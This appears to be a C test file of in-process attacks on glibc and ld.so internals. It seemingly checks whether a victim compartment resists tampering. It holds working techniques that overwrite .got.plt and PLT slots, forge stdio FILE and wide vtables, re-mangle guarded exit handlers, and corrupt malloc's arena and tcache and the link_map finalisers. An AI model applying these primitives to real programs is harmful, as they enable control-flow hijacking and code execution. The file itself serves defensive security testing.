/* What libc and ld.so keep: whoever changes it decides what the next call of the victim's does. */
#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <malloc.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>

#include "tests/attacks/attack.h"

enum { PAGE = 4096, ROOM = 1 << 20 };

/* Zeroed memory that all can write: what is forged must be readable for the victim. */
static uint64_t *forged(void) {
  void *const room = mmap(0, ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  return room == MAP_FAILED ? NULL : room;
}

struct library {
  uint64_t base, code_low, code_high, data_low, data_high;
  const ElfW(Rela) * slots;
  uint64_t slot_count, relro_low, relro_high;
};

static int read_libc(struct dl_phdr_info *info, size_t size, void *argument) {
  struct library *const libc = argument;
  const ElfW(Dyn) *d = NULL;
  (void)size;
  if (!strstr(info->dlpi_name, "libc.so.6"))
    return 0;
  libc->base = info->dlpi_addr;
  for (int i = 0; i < info->dlpi_phnum; i++) {
    const ElfW(Phdr) *const header = &info->dlpi_phdr[i];
    const uint64_t low = info->dlpi_addr + header->p_vaddr, high = low + header->p_memsz;
    if (header->p_type == PT_DYNAMIC)
      d = (const ElfW(Dyn) *)low;
    if (header->p_type == PT_GNU_RELRO)
      libc->relro_low = low & -(uint64_t)PAGE, libc->relro_high = high & -(uint64_t)PAGE;
    if (header->p_type == PT_LOAD && header->p_flags & PF_X)
      libc->code_low = low, libc->code_high = high;
    if (header->p_type == PT_LOAD && header->p_flags & PF_W)
      libc->data_low = low, libc->data_high = high;
  }
  if (libc->relro_high > libc->data_low)
    libc->data_low = libc->relro_high;
  for (; d && d->d_tag != DT_NULL; d++) {
    if (d->d_tag == DT_JMPREL)
      libc->slots = (const ElfW(Rela) *)d->d_un.d_ptr;
    if (d->d_tag == DT_PLTRELSZ)
      libc->slot_count = d->d_un.d_val / sizeof(ElfW(Rela));
  }
  return 1;
}

static struct library find_libc(void) {
  struct library libc = {0};
  dl_iterate_phdr(read_libc, &libc);
  return libc;
}

/* All slots of its .got.plt that plain programs leave writable. */
ATTACK(libc_got_plt) {
  const struct library libc = find_libc();
  for (uint64_t i = 0; i < libc.slot_count; i++) {
    const uint64_t slot = libc.base + libc.slots[i].r_offset;
    if (slot < libc.relro_low || slot >= libc.relro_high)
      *(volatile uint64_t *)slot = (uint64_t)evil;
  }
  return victim_do(VICTIM_DUPLICATES, 0);
}

/* ... wherever they are: what its PLT goes through, once it is writable. */
ATTACK(libc_plt_targets) {
  const struct library libc = find_libc();
  for (uint64_t at = libc.code_low; at + 16 <= libc.code_high; at++) {
    const unsigned char *const stub = (const unsigned char *)at;
    int32_t displacement;
    if (stub[0] != 0xff || stub[1] != 0x25 || stub[6] != 0x68 || stub[11] != 0xe9)
      continue;
    memcpy(&displacement, stub + 2, sizeof displacement);
    const uint64_t slot = at + 6 + (uint64_t)displacement;
    const uint64_t error =
        SYSCALL_3(SYS_mprotect, slot & -(uint64_t)PAGE, PAGE, PROT_READ | PROT_WRITE);
    if (attack_failed(error))
      return error;
    *(volatile uint64_t *)slot = (uint64_t)evil;
  }
  return victim_do(VICTIM_DUPLICATES, 0);
}

/* Where the next byte of the standard output goes. */
ATTACK(stdout_buffer) {
  FILE *volatile const file = stdout;
  const FILE before = *file;
  char *const target = (char *)attack_shared->global;
  file->_IO_write_base = file->_IO_write_ptr = file->_IO_buf_base = target;
  file->_IO_write_end = file->_IO_buf_end = target + 8;
  const uint64_t result = victim_do(VICTIM_PRINTS, 0);
  *file = before;
  return result;
}

/* Which functions are called for it.  libc looks whether the table is one of its own (glibc
 * libio/vtables.c), but not at that for wide characters, which one of its own leads to. */
ATTACK(stdout_vtable) {
  enum { NOT_YET_WRITING = ~(2 | 8 | 0x800), WIDE_TABLE = 0xe0 / 8 };
  uint64_t *const wide = forged(), *const functions = wide + 64;
  FILE *volatile const file = stdout;
  for (int i = 0; i < 32; i++)
    functions[i] = (uint64_t)evil;
  wide[WIDE_TABLE] = (uint64_t)functions;
  *(volatile uint64_t *)(file + 1) = (uint64_t)dlsym(RTLD_DEFAULT, "_IO_wfile_jumps");
  file->_flags &= NOT_YET_WRITING;
  file->_wide_data = (struct _IO_wide_data *)wide;
  file->_IO_write_base = NULL;
  file->_IO_write_ptr = file->_IO_write_end = (char *)1;
  return victim_do(VICTIM_PRINTS, 0);
}

/* A pointer as libc keeps it in lists of functions (glibc
 * sysdeps/unix/sysv/linux/x86_64/pointer_guard.h). */
static uint64_t guard(void) {
  uint64_t word;
  __asm__("mov %%fs:0x30, %0" : "=r"(word));
  return word;
}
static uint64_t mangled(uint64_t pointer) {
  pointer ^= guard();
  return pointer << 17 | pointer >> 47;
}
static uint64_t demangled(uint64_t word) { return (word >> 17 | word << 47) ^ guard(); }

/* The functions in the list that exit() works off, which begins in libc's data. */
ATTACK(exit_functions) {
  const struct library libc = find_libc();
  for (uint64_t at = libc.data_low; at + 8 <= libc.data_high; at += 8) {
    volatile uint64_t *const word = (volatile uint64_t *)at;
    const uint64_t function = demangled(*word);
    if (*word && function > 0x10000 && function < 0x7fffffffffff)
      *word = mangled((uint64_t)evil);
  }
  return victim_do(VICTIM_EXITS, 0);
}

static int is_mapped(uint64_t address) {
  unsigned char unused;
  return mincore((void *)(address & -(uint64_t)PAGE), PAGE, &unused) == 0;
}

/* The free end of malloc's arena, where the next block comes from. */
ATTACK(malloc_arena) {
  enum { MOST = 128 << 20, SIZE = 1 << 16 };
  const struct library libc = find_libc();
  victim_do(VICTIM_ALLOCATES, 0); /* there is an arena */
  const uint64_t heap_end = (uint64_t)sbrk(0);
  uint64_t *const room = forged();
  for (uint64_t at = libc.data_low; at + 8 <= libc.data_high; at += 8) {
    volatile uint64_t *const word = (volatile uint64_t *)at;
    const uint64_t top = *word;
    if (top % 16 || top > heap_end || top < heap_end - MOST || !is_mapped(top) ||
        top + (((const uint64_t *)top)[1] & -(uint64_t)8) != heap_end)
      continue;
    room[1] = SIZE | 1;
    *word = (uint64_t)room;
  }
  victim_do(VICTIM_ALLOCATES, 0);
  return room[2];
}

/* malloc's blocks for this thread: counts, then the first of each size (glibc malloc/malloc.c
 * tcache_perthread_struct). */
enum { BINS = 64, CACHE_SIZE = 0x291, TAIL = 128 };

/* The word that says where they are is in libc's thread-local data, as h_errno is. */
static volatile uint64_t *cache_word(void) {
  enum { NEAR = 16 };
  volatile uint64_t *const words =
      (volatile uint64_t *)((uint64_t)__h_errno_location() & -(uint64_t)8);
  for (int i = -NEAR; i <= NEAR; i++) {
    const uint64_t cache = words[i];
    if (cache % 16 == 0 && cache && is_mapped(cache) && ((const uint64_t *)cache)[-1] == CACHE_SIZE)
      return &words[i];
  }
  return NULL;
}

/* One block of each size, all of them the same. */
static void fill_cache(uint64_t cache, uint64_t *block) {
  for (int bin = 0; bin < BINS; bin++) {
    ((volatile uint16_t *)cache)[bin] = 1;
    ((volatile uint64_t *)(cache + BINS * 2))[bin] = (uint64_t)block;
  }
}

ATTACK(malloc_tcache) {
  uint64_t *const room = forged();
  victim_do(VICTIM_ALLOCATES, 0); /* there is a cache */
  fill_cache(*cache_word(), room + TAIL);
  victim_do(VICTIM_ALLOCATES, 0);
  return room[TAIL];
}

/* ... another cache in its place. */
ATTACK(malloc_tcache_pointer) {
  uint64_t *const room = forged();
  victim_do(VICTIM_ALLOCATES, 0);
  fill_cache((uint64_t)room, room + TAIL);
  *cache_word() = (uint64_t)room;
  victim_do(VICTIM_ALLOCATES, 0);
  return room[TAIL];
}

enum { L_REAL = 40, L_INFO = 64 }; /* glibc include/link.h */

/* What ld.so calls for an object when the program ends. */
static void plant_finaliser(uint64_t map) {
  ElfW(Dyn) *const finaliser = (ElfW(Dyn) *)forged();
  finaliser->d_tag = DT_FINI;
  finaliser->d_un.d_ptr = (uint64_t)evil - ((const struct link_map *)map)->l_addr;
  *(const ElfW(Dyn) *volatile *)(map + L_INFO + DT_FINI * 8) = finaliser;
}

ATTACK(link_map) {
  plant_finaliser((uint64_t)_r_debug.r_map);
  return victim_do(VICTIM_EXITS, 0);
}

/* Another record in its place: _rtld_global begins with the list of the first name space. */
ATTACK(rtld_global) {
  enum { RECORD = 1200 };
  uint64_t *const map = memcpy(forged(), _r_debug.r_map, RECORD);
  map[L_REAL / 8] = (uint64_t)map;
  plant_finaliser((uint64_t)map);
  *(uint64_t *volatile *)dlsym(RTLD_DEFAULT, "_rtld_global") = map;
  return victim_do(VICTIM_EXITS, 0);
}

/* The value of a variable. */
ATTACK(environment) {
  char *const value = strchr(*environ, '=') + 1;
  victim_do(VICTIM_REMEMBERS_VARIABLE, 0);
  *(volatile char *)value = *value == '#' ? '!' : '#';
  return victim_do(VICTIM_COMPARES_VARIABLE, 0);
}

/* The size of a page, in the vector that follows the environment. */
ATTACK(auxiliary_vector) {
  char **end = environ;
  while (*end)
    end++;
  for (ElfW(auxv_t) *entry = (ElfW(auxv_t) *)(end + 1); entry->a_type != AT_NULL; entry++)
    if (entry->a_type == AT_PAGESZ)
      *(volatile uint64_t *)&entry->a_un.a_val = 666;
  return victim_do(VICTIM_LOOKS_AT_PAGE_SIZE, 0);
}

/* A file of the attacker's own making, whose buffer is libc's data, printed to by libc. */
ATTACK(forged_file) {
  static char copy[512] __attribute__((aligned(16)));
  char *const target = (char *)&program_invocation_short_name;
  FILE *const file = memcpy(copy, stdout, sizeof *stdout + sizeof(void *));
  file->_IO_write_base = file->_IO_write_ptr = file->_IO_buf_base = target;
  file->_IO_write_end = file->_IO_buf_end = target + 8;
  const char before = *target;
  errno = 0;
  fputc(~before, file);
  if (*(volatile char *)target != before)
    return ATTACK_DONE;
  return errno ? -(uint64_t)errno : ATTACK_NOTHING;
}
